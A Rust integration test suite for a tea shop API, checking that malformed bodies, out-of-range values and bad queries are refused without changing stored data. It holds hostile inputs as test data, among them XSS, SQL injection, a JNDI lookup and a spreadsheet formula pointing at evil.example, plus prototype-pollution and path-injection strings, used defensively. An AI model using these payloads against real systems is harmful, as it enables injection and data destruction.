//! What is sent wrongly is refused with the right status and code, and changes nothing: rows 8, 11, 14–24, 40, 43,
//! 46–48, 58, 60, 61 and 67–69 of the list of bad input. Rows 42 and 53–55 are in `holds`, 41 and 56 in `movements` and
//! `stock`, 44 in `catalogue`, 62 in `sheets`, 63–66 in `pictures`, 70 in `catalogue`, 76 in `idempotency`.

use serde_json::{Value, json};
use testkit::{Reply, callers};
use wire::Role;

use crate::shop::{TestShop, variant};

fn product() -> Value {
    json!({"title": {"en": "Oolong"}, "category": "tea", "tax_class": "reduced", "variants": [variant("OOLONG", "S", 700)]})
}

/// A product that is right but for what stands at `pointer`.
fn product_with(pointer: &str, value: Value) -> Value {
    let mut product = product();
    let (parent, name) = pointer.rsplit_once('/').unwrap();
    match product.pointer_mut(parent).unwrap() {
        Value::Object(members) => drop(members.insert(name.to_owned(), value)),
        other => panic!("{pointer} in {other}"),
    }
    product
}

async fn post(shop: &TestShop, path: &str, kind: &str, body: impl Into<Vec<u8>>) -> Reply {
    let token = callers::staff(&[Role::Admin]);
    shop.client.post(path).bearer(&token).idempotency("bad").body(kind, body).send().await
}

fn told(reply: &Reply) -> (u16, String) {
    (reply.status.as_u16(), reply.code())
}

#[tokio::test]
async fn bodies_that_are_no_json_are_refused() {
    let shop = TestShop::open().await;
    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let whole = product().to_string();
    for (row, kind, body, status, code) in [
        ("8", "text/plain", whole.clone().into_bytes(), 415, "unsupported_media_type"),
        ("8", "application/x-www-form-urlencoded", b"title=Oolong".to_vec(), 415, "unsupported_media_type"),
        ("14", "application/json", whole.as_bytes()[..40].to_vec(), 400, "malformed_json"),
        ("14", "application/json", format!("{whole} x").into_bytes(), 400, "malformed_json"),
        ("14", "application/json", Vec::new(), 400, "malformed_json"),
        ("14", "application/json", format!("\u{feff}{whole}").into_bytes(), 400, "malformed_json"),
        (
            "15",
            "application/json",
            whole.replacen('{', "{\"category\":\"cups\",", 1).into_bytes(),
            400,
            "duplicate_key",
        ),
        ("16", "application/json", deep.into_bytes(), 400, "too_deep"),
        ("17", "application/json", whole.replace("700", "NaN").into_bytes(), 400, "malformed_json"),
        ("17", "application/json", whole.replace("700", "1e400").into_bytes(), 400, "malformed_json"),
        ("17", "application/json", whole.replace("700", "-0").into_bytes(), 400, "malformed_json"),
        ("22", "application/json", whole.replace("Oolong", "\u{0}\u{0}").into_bytes(), 400, "malformed_json"),
        (
            "22",
            "application/json",
            [b"{\"title\":\"".as_slice(), &[0xff, 0xfe], b"\"}"].concat(),
            400,
            "malformed_json",
        ),
        ("22", "application/json", whole.replace("Oolong", "\\ud800").into_bytes(), 400, "malformed_json"),
        (
            "23",
            "application/json",
            whole.replace("Oolong", &"a".repeat(1 << 20)).into_bytes(),
            413,
            "body_too_large",
        ),
    ] {
        let reply = post(&shop, "/api/products", kind, body).await;
        assert_eq!(told(&reply), (status, code.to_owned()), "row {row}: {}", reply.text());
        assert_eq!(reply.header("content-type"), "application/problem+json");
    }
    assert_eq!(shop.sales("GET", "/api/products/oolong", &json!(null)).await.status.as_u16(), 404);
}

#[tokio::test]
async fn values_that_do_not_fit_are_refused_with_their_place() {
    let shop = TestShop::open().await;
    let many: serde_json::Map<String, Value> = (0..5_000).map(|n| (format!("key{n}"), json!(n))).collect();
    let crowd: Vec<Value> = (0..101).map(|n| variant(&format!("V-{n}"), &format!("{n}"), 1)).collect();
    for (row, pointer, value) in [
        ("23", "/variants", Value::Array(crowd)),
        ("18", "/variants/0/price/amount", json!("700")),
        ("18", "/variants/0/price/amount", json!(700.0)),
        ("18", "/variants/0/price/amount", json!(true)),
        ("18", "/variants/0/price/amount", json!([700])),
        ("19", "/variants/0/price/amount", json!(9_223_372_036_854_775_808_u64)),
        ("20", "/version", json!(7)),
        ("20", "/id", json!("0197d4f1-6f4e-7a52-8e10-2f6f5c1d9b3a")),
        ("20", "/variants/0/available", json!(99)),
        ("21", "/title", json!(null)),
        ("24", "/__proto__", json!({"admin": true})),
        ("24", "/variants/0/options", Value::Object(many)),
        ("46", "/variants/0/price/currency", json!("xyz")),
        ("46", "/variants/0/price/currency", json!("eur")),
        ("47", "/variants/0/price/amount", json!("10,50")),
        ("47", "/variants/0/price/amount", json!(10.5)),
        ("48", "/variants/0/weight_grams", json!(-1)),
        ("58", "/title/en", json!("Oo\u{0}long")),
        ("58", "/title/en", json!("Oo\u{202e}long")),
        ("58", "/title/en", json!("Oo\u{200b}long")),
        ("58", "/title/en", json!("two\nlines")),
        ("58", "/brand", json!(" \u{7}")),
        ("60", "/title/en", json!(format!("a{}", "\u{301}".repeat(10_000)))),
        ("60", "/title/en", json!("x".repeat(201))),
        ("40", "/category", json!("no such category")),
        ("40", "/category", json!("Tea")),
    ] {
        let reply = shop.sales("POST", "/api/products", &product_with(pointer, value)).await;
        assert_eq!(told(&reply), (422, "invalid_body".to_owned()), "row {row} {pointer}: {}", reply.text());
        let body: Value = reply.json();
        let places: Vec<&str> = body["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|error| error["pointer"].as_str().unwrap())
            .collect();
        assert!(places.iter().any(|place| place.starts_with(pointer)), "row {row} {pointer}: {places:?}");
    }
    assert_eq!(shop.sales("GET", "/api/products/oolong", &json!(null)).await.status.as_u16(), 404);
}

#[tokio::test]
async fn prices_are_more_than_nothing_and_less_than_too_much() {
    let shop = TestShop::open().await;
    for amount in [0, -1, i64::MIN, 10_000_000_001, i64::MAX] {
        let reply = shop
            .sales("POST", "/api/products", &product_with("/variants/0/price/amount", json!(amount)))
            .await;
        assert_eq!(told(&reply), (422, "invalid_body".to_owned()), "{amount}");
        let place = reply.json::<Value>()["errors"][0]["pointer"].as_str().unwrap().to_owned();
        assert!(place.starts_with("/variants/0/price"), "{place}");
    }
    let most = product_with("/variants/0/price/amount", json!(10_000_000_000_i64));
    let made: Value = shop.sales("POST", "/api/products", &most).await.expect(201).json();
    assert_eq!(made["variants"][0]["price"]["amount"], 10_000_000_000_i64);
}

#[tokio::test]
async fn a_name_stands_in_the_path_and_nowhere_else() {
    let shop = TestShop::open().await;
    let tea = shop.tea(1).await;
    for (method, path, body, pointer) in [
        ("PATCH", "/api/products/green-tea", json!({"id": tea.id}), "/id"),
        ("PATCH", "/api/products/green-tea/variants/TEA", json!({"sku": "COFFEE"}), "/sku"),
        (
            "POST",
            "/api/stock/TEA/movements",
            json!({"sku": "COFFEE", "location": "paris", "reason": "received",
                                                    "quantity": 1}),
            "/sku",
        ),
        ("PATCH", "/api/locations/paris", json!({"code": "rome"}), "/code"),
    ] {
        let token = callers::staff(&[Role::Admin]);
        let request =
            shop.client.request(method.parse().unwrap(), path).bearer(&token).header("if-match", "*");
        let reply = request.idempotency("path").json(&body).send().await;
        assert_eq!(told(&reply), (422, "invalid_body".to_owned()), "{path}");
        assert_eq!(reply.json::<Value>()["errors"][0]["pointer"], pointer);
    }
    assert_eq!(shop.numbers("TEA").await, (1, 0, 0, 1));
}

#[tokio::test]
async fn every_mistake_is_named_at_once() {
    let shop = TestShop::open().await;
    let wrong =
        json!({"title": {}, "category": 5, "status": "gone", "variants": [{"sku": "X"}], "role": "admin"});

    let body: Value = shop.sales("POST", "/api/products", &wrong).await.expect(422).json();

    let places: Vec<&str> =
        body["errors"].as_array().unwrap().iter().map(|error| error["pointer"].as_str().unwrap()).collect();
    for place in ["/title/en", "/category", "/status", "/variants/0/price", "/tax_class", "/role"] {
        assert!(places.contains(&place), "{place} in {places:?}");
    }
}

#[tokio::test]
async fn text_is_kept_as_text() {
    let shop = TestShop::open().await;
    for (index, text) in [
        "<script>alert(1)</script>",
        "{{7*7}}",
        "'; DROP TABLE products; --",
        "${jndi:ldap://evil.example}",
        "=HYPERLINK(\"http://evil.example\")",
        "🫖 tea 👩‍🌾",
    ]
    .into_iter()
    .enumerate()
    {
        let slug = format!("odd-{index}");
        let mut new = product_with("/title/en", json!(text));
        new["slug"] = json!(slug);
        new["status"] = json!("published");
        new["variants"][0]["sku"] = json!(format!("ODD-{index}"));
        shop.sales("POST", "/api/products", &new).await.expect(201);

        let page: Value = shop.guest(&format!("/api/products/{slug}")).await.expect(200).json();

        assert_eq!(page["title"]["en"], text);
    }
}

#[tokio::test]
async fn names_in_the_path_have_one_spelling() {
    let shop = TestShop::open().await;
    shop.tea(1).await;
    let id = "0197D4F1-6F4E-7A52-8E10-2F6F5C1D9B3A";
    for path in [
        "/api/products/Green-Tea".to_owned(),
        "/api/products/green-tea-".to_owned(),
        "/api/products/1%20OR%201=1".to_owned(),
        format!("/api/products/{}", "a".repeat(10_240)),
        "/api/stock/tea".to_owned(),
        "/api/stock/-1".to_owned(),
        "/api/pictures/0".to_owned(),
        format!("/api/pictures/{id}"),
        format!("/api/pictures/%7B{}%7D", id.to_lowercase()),
        "/api/pictures/00000000-0000-0000-0000-000000000000".to_owned(),
        format!("/api/pictures/{}", id.to_lowercase()),
    ] {
        assert_eq!(told(&shop.guest(&path).await), (404, "not_found".to_owned()), "{path}");
    }
    for order in ["0", "nil", id, "00000000-0000-0000-0000-000000000000"] {
        let reply = shop.service(&format!("/internal/holds/{order}/release"), &json!(null)).await;
        assert_eq!(told(&reply), (404, "not_found".to_owned()), "{order}");
    }
}

#[tokio::test]
async fn queries_know_what_they_can_be_asked() {
    let shop = TestShop::open().await;
    for (row, path, status, code) in [
        ("11", "/api/products?q=a&q=b", 400, "invalid_query"),
        ("11", "/api/products?colour=green", 400, "invalid_query"),
        ("67", "/api/products?limit=0", 422, "invalid_limit"),
        ("67", "/api/products?limit=-1", 422, "invalid_limit"),
        ("67", "/api/products?limit=101", 422, "invalid_limit"),
        ("67", "/api/products?limit=1000000000", 422, "invalid_limit"),
        ("67", "/api/products?offset=1000000000000", 400, "invalid_query"),
        ("67", "/api/stock?limit=0", 422, "invalid_limit"),
        ("68", "/api/stock?cursor=AAAA", 400, "invalid_cursor"),
        ("68", "/api/stock/TEA/movements?cursor=AAAA", 400, "invalid_cursor"),
        ("69", "/api/products?sort=id%3BDROP", 400, "invalid_query"),
        ("69", "/api/products?tax_class=reduced", 400, "invalid_query"),
        ("69", "/api/products?in_stock=yes", 400, "invalid_query"),
        ("69", "/api/products?min_price=-5", 400, "invalid_query"),
        ("69", "/api/products?options=size", 400, "invalid_query"),
        ("69", "/api/products?category=No%20Such", 400, "invalid_query"),
    ] {
        let reply = shop.warehouse("GET", path, &json!(null)).await;
        assert_eq!(told(&reply), (status, code.to_owned()), "row {row} {path}");
    }
    let long = shop.guest(&format!("/api/products?q={}", "a".repeat(10_240))).await;
    assert_eq!(told(&long), (400, "invalid_query".to_owned()));
}
